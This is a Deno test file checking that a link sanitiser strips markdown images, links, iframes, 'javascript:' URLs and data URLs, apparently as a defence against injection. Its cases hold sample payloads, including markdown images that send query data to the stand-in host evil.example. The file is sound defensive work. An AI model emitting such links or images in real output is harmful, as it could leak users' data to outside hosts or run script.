import { assertEquals } from "@std/assert";
import { createLinkSanitiser } from "@function/sanitise/link_sanitiser.ts";

const PLAIN = "Shut the valve [cold side], 2 < 3, ratio 3:1.";
const LINK = "See [the guide](https://evil.example/a?serial=42).";
const cases: [name: string, text: string, expected: string][] = [
  ["a markdown image", "Done. ![leak](https://evil.example/x.png?home=1)", "Done. leak"],
  ["an image by reference", "![leak][1]\n[1]: https://evil.example/x.png\nDone.", "leak\nDone."],
  ["a markdown link", LINK, "See the guide (evil.example)."],
  ["a link whose label has its host", "[evil.example](https://evil.example/a)", "evil.example"],
  ["a link in angle brackets", "[guide](<https://evil.example/a b>)", "guide (evil.example)"],
  ["a frame", '<iframe src="//evil.example/x">Hi</iframe>', "Hi"],
  ["a script link", "[tap](javascript:alert(1))", "tap)"],
  ["a bare address", "Go to https://www.epa.gov/lead?x=1 now.", "Go to www.epa.gov now."],
  ["an HTML image", 'Hi <img src="https://evil.example/x"> there', "Hi  there"],
  ["a data address", "data:text/html;base64,AAAA", ""],
  ["plain text", PLAIN, PLAIN],
];

function sanitise(text: string): string {
  const stream = createLinkSanitiser();
  return stream.push(text) + stream.end();
}

for (const [name, text, expected] of cases) {
  Deno.test(`F-J (injection): sanitises ${name}, also twice`, () => {
    assertEquals([sanitise(text), sanitise(expected)], [expected, expected]);
  });
}
